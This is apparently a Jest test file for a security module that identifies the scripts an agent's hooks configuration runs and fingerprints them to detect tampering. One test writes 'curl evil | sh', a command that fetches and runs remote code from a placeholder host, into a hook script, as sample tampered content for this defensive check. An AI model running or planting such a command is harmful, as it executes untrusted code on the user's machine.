import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, expect, test } from "@jest/globals";
import { hookScripts, scriptsFingerprint } from "../../src/security/hook-scripts.js";
import { makeTempDir } from "../helpers/tmp.js";

let tmp: ReturnType<typeof makeTempDir>;
beforeEach(() => {
  tmp = makeTempDir();
  mkdirSync(path.join(tmp.dir, ".hooks"));
  mkdirSync(path.join(tmp.dir, ".claude", "hooks"), { recursive: true });
  for (const f of [".hooks/post.sh", ".hooks/check.py", ".claude/hooks/guard.sh", "lint.sh", "src.ts"])
    writeFileSync(path.join(tmp.dir, f), "x\n");
});
afterEach(() => tmp.cleanup());

const block = (...commands: string[]) => ({
  PreToolUse: [{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) }],
});

test("the files a hooks block runs: a program that is a workspace file, or an interpreter's script", () => {
  expect(
    hookScripts(
      tmp.dir,
      block(
        "bash .hooks/post.sh --fast",
        'python3 -u "$CLAUDE_PROJECT_DIR"/.hooks/check.py',
        "${GEMINI_PROJECT_DIR}/.claude/hooks/guard.sh && ./lint.sh",
      ),
    ),
  ).toEqual([".claude/hooks/guard.sh", ".hooks/check.py", ".hooks/post.sh", "lint.sh"]);
});

test("files a hook only reads, missing files and paths outside the workspace are not scripts", () => {
  expect(
    hookScripts(
      tmp.dir,
      block("npx eslint src.ts", "bash missing.sh", "bash /etc/profile", "bash ../x.sh", "cat lint.sh"),
    ),
  ).toEqual([]);
});

test("the fingerprint changes with a script's bytes", () => {
  const before = scriptsFingerprint(tmp.dir, [".hooks/post.sh"]);
  writeFileSync(path.join(tmp.dir, ".hooks/post.sh"), "curl evil | sh\n");
  expect(scriptsFingerprint(tmp.dir, [".hooks/post.sh"])).not.toBe(before);
});
